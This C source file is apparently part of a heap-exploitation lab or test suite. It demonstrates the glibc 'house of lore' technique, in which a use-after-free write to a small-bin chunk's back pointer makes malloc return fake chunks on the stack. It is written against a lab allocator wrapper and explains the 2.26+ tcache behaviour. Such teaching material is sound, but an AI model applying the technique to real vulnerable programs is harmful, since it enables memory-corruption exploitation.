/*
 * house_of_lore.c - corrupt the back link of a chunk in a small bin, and
 * malloc returns fake chunks on the stack.
 *
 * A small bin is a circular doubly-linked list; malloc takes its chunks from
 * the back (bk).  Taking chunk v, it checks only that the chunk behind v,
 * bck = v->bk, points forward at v ("malloc(): smallbin double linked list
 * corrupted"), then makes bck the new last chunk.  So if v->bk names a fake
 * chunk whose fd points at v, the fake chunk becomes the bin's next victim;
 * and that one's own bk must name a second fake chunk pointing forward at it.
 *
 * From 2.26, when malloc takes a chunk from a small bin it also moves the
 * chunks behind it into the tcache until the tcache bin is full, following bk
 * with no check at all.  The program therefore builds a chain of nine fake
 * chunks, each pointing forward at the one before and back at the one after:
 * without a tcache, the first fake chunk is the next victim; with one, seven
 * fake chunks are moved into the tcache and the next malloc returns the last
 * one moved.  Either way the result is on the stack.  The tcache is filled
 * while the victim is freed, so that it goes to the unsorted bin, and
 * emptied before the two mallocs, so that they reach the small bin.
 *
 * Works on every release 2.23 ... 2.36.
 */
#include "tests/techniques/technique.h"

#define FAKES 9

int main(void)
{
    technique_begin("house_of_lore", "Point a small-bin chunk's bk at fake chunks whose links agree: malloc "
                                     "takes them one after the other, and returns the stack.");

    /* Fake chunks of 4 words (prev_size, size, fd, bk), in a larger buffer:
       moving a chunk into the tcache sets the PREV_INUSE bit of "the next
       chunk", 0x110 bytes further, which must still be ours to write. */
    _Alignas(16) size_t area[128] = {0};
    size_t *fakes[FAKES];
    for (int i = 0; i < FAKES; i++)
        fakes[i] = &area[4 * i];

    char *victim = arenalloc_malloc(0x100);
    void *fill[TCACHE_FILL];
    tcache_prepare(fill, 0x100);
    void *guard = arenalloc_malloc(0x20);
    say("victim = malloc(0x100) = %p (a 0x110 chunk), a guard (%p) between it and top.", (void *)victim, guard);
    tcache_fill(fill);

    arenalloc_free(victim);
    say("free(victim): to the unsorted bin.");
    arenalloc_malloc(0x500);
    say("malloc(0x500): too large for victim, which the search files in its small bin on the way.");

    for (int i = 0; i < FAKES; i++) {
        fakes[i][2] = i == 0 ? (size_t)chunk_header(victim) : (size_t)fakes[i - 1];
        fakes[i][3] = i + 1 < FAKES ? (size_t)fakes[i + 1] : 0;
    }
    say("On the stack at %p: %d fake chunks, each with fd = the one before (the first: victim) and bk = the next.",
        (void *)area, FAKES);

    /* LAB(tech-house_of_lore) BEGIN */
    ((size_t *)victim)[1] = (size_t)fakes[0];
    /* LAB(tech-house_of_lore) END */
    say("A write after free: victim->bk = the first fake chunk (%p).", (void *)fakes[0]);

    tcache_empty(0x100);
    char *p1 = arenalloc_malloc(0x100);
    say("malloc(0x100) = %p: victim, from the small bin; its bk, the first fake chunk, points back at it.",
        (void *)p1);
    if (release_has_tcache())
        say("Then malloc moves the chunks behind it, seven fake chunks, into the tcache.");
    char *p2 = arenalloc_malloc(0x100);
    say("malloc(0x100) = %p.", (void *)p2);

    bool on_stack = (size_t *)p2 > area && (size_t *)p2 < area + 4 * FAKES;
    return technique_end(p1 == victim && on_stack, "malloc returned a fake chunk on the stack");
}
